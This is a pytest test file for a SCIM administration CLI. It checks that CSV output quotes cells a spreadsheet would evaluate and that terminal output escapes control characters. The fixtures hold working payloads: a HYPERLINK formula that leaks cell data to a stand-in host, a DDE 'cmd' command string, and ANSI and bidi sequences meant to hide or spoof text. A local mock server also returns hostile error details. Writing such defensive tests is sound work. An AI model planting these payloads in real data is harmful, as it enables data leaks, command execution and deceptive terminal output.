"""What the CLI writes from server and file text: CSV a spreadsheet never evaluates, and tables and messages that a
terminal never obeys (escape sequences, carriage returns and bidi overrides are shown, not sent)."""

from __future__ import annotations

import csv
import io
import json
import os
import threading
import uuid
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from birdadmin.cli import main
from birdadmin.cli.output import Output
from tests.conftest import ScimServer

RAW = ("\x1b", "\r", "\x07", "\x9b", "\u202e", "\u2066")  # what must never reach a terminal from a server


@pytest.fixture
def run(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]):
    def invoke(server: ScimServer, *argv: str) -> tuple[int, str, str]:
        monkeypatch.setenv("BIRDADMIN_ACCESS_KEY", server.key)
        code = main(["--base-url", server.base_url, *argv])
        out, err = capsys.readouterr()
        return code, out, err

    return invoke


def make_user(server: ScimServer, display_name: str, *, user_name: str | None = None) -> tuple[str, str]:
    name = user_name or f"exp+{uuid.uuid4().hex[:8]}@example.com"
    response = server.raw("POST", "Users", {"schemas": ["urn:ietf:params:scim:schemas:core:2.0:User"],
                                            "userName": name, "displayName": display_name})
    assert response.status_code == 201, response.text
    return str(response.json()["id"]), name


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_no_raw_controls(*texts: str) -> None:
    for text in texts:
        found = [c for c in RAW if c in text]
        assert not found, f"raw control characters {found!r} in {text!r}"


# -- CSV: formula injection --------------------------------------------------------------------------------------


FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")'


def test_users_csv_quotes_cells_a_spreadsheet_would_evaluate(run, scim2_server: ScimServer) -> None:
    user_name = f"@sum{uuid.uuid4().hex[:6]}@example.com"
    user_id, _ = make_user(scim2_server, FORMULA, user_name=user_name)
    code, out, err = run(scim2_server, "--format", "csv", "users", "list", "--filter", f'userName eq "{user_name}"')
    assert code == 0, err
    rows = csv_rows(out)
    assert rows[0] == ["id", "userName", "displayName", "active", "roles"]
    assert rows[1] == [user_id, "'" + user_name, "'" + FORMULA, "yes", ""]
    code, out, err = run(scim2_server, "--format", "csv", "users", "show", user_id)
    assert code == 0, err
    record = dict(zip(*csv_rows(out), strict=True))
    assert record["id"] == user_id and record["displayName"] == "'" + FORMULA


def test_groups_csv_has_ids_and_quotes_names(run, scim2_server: ScimServer) -> None:
    name = f"-2+3+cmd|' /C calc'!A0 {uuid.uuid4().hex[:6]}"
    response = scim2_server.raw("POST", "Groups", {"schemas": ["urn:ietf:params:scim:schemas:core:2.0:Group"],
                                                   "displayName": name})
    group_id = str(response.json()["id"])
    code, out, err = run(scim2_server, "--format", "csv", "groups", "list")
    assert code == 0, err
    rows = csv_rows(out)
    assert rows[0][0] == "id"
    assert [group_id, "'" + name] in [row[:2] for row in rows[1:]]


def test_a_carriage_return_in_a_name_does_not_add_a_csv_row(run, scim2_server: ScimServer) -> None:
    user_id, name = make_user(scim2_server, "Eve\r=1+1")
    code, out, err = run(scim2_server, "--format", "csv", "users", "list", "--filter", f'userName eq "{name}"')
    assert code == 0, err
    assert csv_rows(out)[1:] == [[user_id, name, "Eve\r=1+1", "yes", ""]]


# -- terminal: tables and messages --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("display_name", "shown"),
    [
        ("Eve\x1b[8m hides the rest of the row", "Eve\\x1b[8m hides the rest of the row"),
        ("\r\x1b[2Kmallory  Mallory  yes  Owner", "\\r\\x1b[2Kmallory  Mallory  yes  Owner"),
        ("title \x1b]0;owned\x07", "title \\x1b]0;owned\\x07"),
        ("\u202eexe.txt c1\x9b", "\\u202eexe.txt c1\\x9b"),
    ],
)
def test_table_output_shows_control_characters_as_escapes(run, scim2_server: ScimServer, display_name: str,
                                                          shown: str) -> None:
    user_id, name = make_user(scim2_server, display_name)
    code, out, err = run(scim2_server, "users", "list", "--filter", f'userName eq "{name}"')
    assert code == 0, err
    assert_no_raw_controls(out, err)
    assert shown in out and user_id in out
    assert len(out.splitlines()) == 3  # header, the one row, the count
    code, out, err = run(scim2_server, "users", "show", user_id)
    assert code == 0, err
    assert_no_raw_controls(out, err)
    assert f"displayName  {shown}" in out.splitlines()


def test_json_output_escapes_control_characters(run, scim2_server: ScimServer) -> None:
    display_name = "Eve\x1b[8m\r\x07 \u202eRLO"
    user_id, name = make_user(scim2_server, display_name)
    for argv in (("users", "show", user_id), ("users", "list", "--filter", f'userName eq "{name}"')):
        code, out, err = run(scim2_server, "--format", "json", *argv)
        assert code == 0, err
        assert not any(c in out for c in "\x1b\r\x07\u202e")  # the bidi override too, as a \\u escape
        parsed = json.loads(out)
        assert (parsed if isinstance(parsed, dict) else parsed[0])["displayName"] == display_name


def test_a_server_error_echoing_a_hostile_filter_reaches_stderr_escaped(run, emulator_server: ScimServer) -> None:
    code, out, err = run(emulator_server, "-v", "users", "list", "--filter", 'x\x1b[2J eq "a"')
    assert code == 1
    assert_no_raw_controls(out, err)
    assert "\\x1b" in err


class _HostileServer(BaseHTTPRequestHandler):
    """Answers everything with an error whose detail tries to clear the screen, retitle the window and overwrite
    the error line with a reassuring one."""

    detail = "\x1b[2J\x1b]0;pwned\x07 gone\r\x1b[2Kbirdadmin-cli: all good \u202e\x9b31m"

    def do_GET(self) -> None:
        body = json.dumps({"schemas": ["urn:ietf:params:scim:api:messages:2.0:Error"], "status": "400",
                           "scimType": "invalidValue\x1b[8m", "detail": self.detail}).encode()
        self.send_response(400)
        self.send_header("Content-Type", "application/scim+json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: object) -> None:
        pass


@pytest.fixture
def hostile_server() -> Iterator[ScimServer]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), _HostileServer)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield ScimServer("hostile", f"http://127.0.0.1:{server.server_address[1]}/scim/v2", "hostile-key", 100)
    finally:
        server.shutdown()
        server.server_close()
        thread.join(timeout=10)


@pytest.mark.parametrize("fmt", ["table", "json", "csv"])
def test_a_hostile_error_detail_reaches_stderr_escaped(run, hostile_server: ScimServer, fmt: str) -> None:
    code, out, err = run(hostile_server, "-v", "--format", fmt, "users", "show", "someone")
    assert code == 1
    assert_no_raw_controls(out, err)
    assert "\\x1b[2J\\x1b]0;pwned\\x07 gone\\r\\x1b[2Kbirdadmin-cli: all good \\u202e\\x9b31m" in err
    assert "invalidValue\\x1b[8m" in err  # the -v details, line by line, escaped too
    assert not any(line.startswith("birdadmin-cli: all good") for line in err.splitlines())


def test_a_hostile_profile_name_from_the_file_is_escaped(run, scim2_server: ScimServer,
                                                        capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["profiles", "add", "plain", "--base-url", "https://scim.example.com/scim/v2", "--no-key"]) == 0
    path = os.path.join(os.environ["BIRDADMIN_CONFIG_DIR"], "profiles.json")
    with open(path, encoding="utf-8") as f:
        document = json.load(f)
    hostile = "prod\x1b]0;owned\x07\r\x1b[2K"
    document["profiles"][0]["name"] = hostile
    with open(path, "w", encoding="utf-8") as f:
        json.dump(document, f)
    capsys.readouterr()
    assert main(["profiles", "list"]) == 0
    out, err = capsys.readouterr()
    assert_no_raw_controls(out, err)
    assert "prod\\x1b]0;owned\\x07\\r\\x1b[2K" in out
    assert main(["--profile", hostile, "users", "list"]) == 2
    out, err = capsys.readouterr()
    assert_no_raw_controls(out, err)
    assert "prod\\x1b]0;owned\\x07\\r\\x1b[2K" in err


# -- CSV to a terminal --------------------------------------------------------------------------------------------


class _Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_csv_written_to_a_terminal_is_escaped_and_to_a_file_is_not() -> None:
    rows = [{"id": "u1", "displayName": "Eve\x1b[8m"}]
    terminal, pipe = _Terminal(), io.StringIO()
    Output("csv", stdout=terminal).emit(rows, ["id", "displayName"])
    Output("csv", stdout=pipe).emit(rows, ["id", "displayName"])
    assert terminal.getvalue() == "id,displayName\nu1,Eve\\x1b[8m\n"
    assert pipe.getvalue() == "id,displayName\nu1,Eve\x1b[8m\n"


# -- SCIM ids in every listing ----------------------------------------------------------------------------------


def test_every_csv_the_cli_writes_about_users_and_groups_has_their_ids(run, scim2_server: ScimServer) -> None:
    user_id, name = make_user(scim2_server, "Id Check")
    group = f"=ids {uuid.uuid4().hex[:6]}"
    group_id = str(scim2_server.raw("POST", "Groups", {"schemas": ["urn:ietf:params:scim:schemas:core:2.0:Group"],
                                                       "displayName": group}).json()["id"])
    code, out, err = run(scim2_server, "--format", "csv", "groups", "members", "add", group_id, name, "--dry-run")
    assert code == 0, err
    rows = csv_rows(out)
    assert dict(zip(rows[0], rows[1], strict=True)) == {
        "groupId": group_id, "group": "'" + group, "id": user_id, "user": name, "action": "add", "status": "dry-run",
    }
    for argv in (("groups", "show", group_id), ("users", "show", user_id)):
        code, out, err = run(scim2_server, "--format", "csv", *argv)
        assert code == 0, err
        assert csv_rows(out)[0][0] == "id"
